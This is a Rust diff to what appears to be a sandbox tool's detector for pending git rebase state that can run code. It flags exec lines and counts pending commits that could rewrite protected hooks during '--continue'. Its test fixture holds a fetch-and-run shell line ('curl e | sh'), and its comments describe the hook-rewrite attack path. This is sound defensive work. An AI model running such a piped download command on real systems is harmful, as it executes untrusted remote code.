@@ -40,14 +40,53 @@ pub fn pending_code(rel: &Path, content: &[u8]) -> Vec<String> {
             .then(|| format!("merge strategy `{s}` runs the program `git-merge-{s}`"))
     };
     match rel.to_str() {
-        Some("sequencer/todo" | "rebase-merge/git-rebase-todo") => text
-            .lines()
-            .filter_map(|l| {
-                let l = l.trim_start();
-                let (verb, rest) = l.split_once(char::is_whitespace)?;
-                matches!(verb, "exec" | "x").then(|| format!("exec line `{}`", rest.trim()))
-            })
-            .collect(),
+        Some("sequencer/todo" | "rebase-merge/git-rebase-todo") => {
+            let mut found: Vec<String> = text
+                .lines()
+                .filter_map(|l| {
+                    let l = l.trim_start();
+                    let (verb, rest) = l.split_once(char::is_whitespace)?;
+                    matches!(verb, "exec" | "x").then(|| format!("exec line `{}`", rest.trim()))
+                })
+                .collect();
+            // Commits still to apply are the command's choice too: one that rewrites a
+            // protected hook (a `core.hooksPath` directory, a hook manager's config) has it
+            // run during the host's `--continue` (attack pass 40, D3). Not judged commit by
+            // commit (that would mean reading the objects the command wrote): named, with
+            // how many, so the person looks first.
+            let applies = text
+                .lines()
+                .filter_map(|l| l.split_whitespace().next())
+                .filter(|v| {
+                    matches!(
+                        *v,
+                        "pick"
+                            | "p"
+                            | "reword"
+                            | "r"
+                            | "edit"
+                            | "e"
+                            | "squash"
+                            | "s"
+                            | "fixup"
+                            | "f"
+                            | "merge"
+                            | "m"
+                            | "reset"
+                            | "t"
+                            | "revert"
+                    )
+                })
+                .count();
+            if applies > 0 {
+                found.push(format!(
+                    "{applies} commit(s) still to apply, chosen inside the sandbox: one that \
+                     changes a hook or hook-manager config cordon protects would run it during \
+                     `--continue`; check them first (`git rebase --edit-todo`, `git show`)"
+                ));
+            }
+            found
+        }
         Some("rebase-merge/strategy") => strategy(&text).into_iter().collect(),
         Some("sequencer/opts") => {
             // git config syntax (`[options] strategy = …`), read with a real parser.
@@ -89,18 +128,30 @@ mod tests {
         }
     }
 
-    /// exec lines in either todo list (both spellings); pick lines are not code.
+    /// exec lines in either todo list (both spellings) are code; attack40 D3: commits
+    /// still to apply are named once, with their count (one may rewrite a protected hook
+    /// that runs during `--continue`). Twin: a todo of comments and labels only is not.
     #[test]
-    fn exec_lines_are_code_and_picks_are_not() {
+    fn exec_lines_are_code_and_commits_to_apply_are_named() {
         let todo =
             b"pick 1234 one\nexec make test\n  x curl e | sh\n# exec commented\npick 5678 two\n";
         for rel in ["sequencer/todo", "rebase-merge/git-rebase-todo"] {
             let found = pending_code(Path::new(rel), todo);
+            assert_eq!(found.len(), 3, "{found:?}");
             assert_eq!(
-                found,
-                vec!["exec line `make test`", "exec line `curl e | sh`"]
+                found[..2],
+                ["exec line `make test`", "exec line `curl e | sh`"]
+            );
+            assert!(
+                found[2].starts_with("2 commit(s) still to apply"),
+                "{found:?}"
             );
         }
-        assert!(pending_code(Path::new("sequencer/todo"), b"pick 1234 one\n").is_empty());
+        let one = pending_code(Path::new("sequencer/todo"), b"pick 1234 one\n");
+        assert!(
+            one.len() == 1 && one[0].starts_with("1 commit(s)"),
+            "{one:?}"
+        );
+        assert!(pending_code(Path::new("sequencer/todo"), b"# pick 1\nlabel onto\n").is_empty());
     }
 }
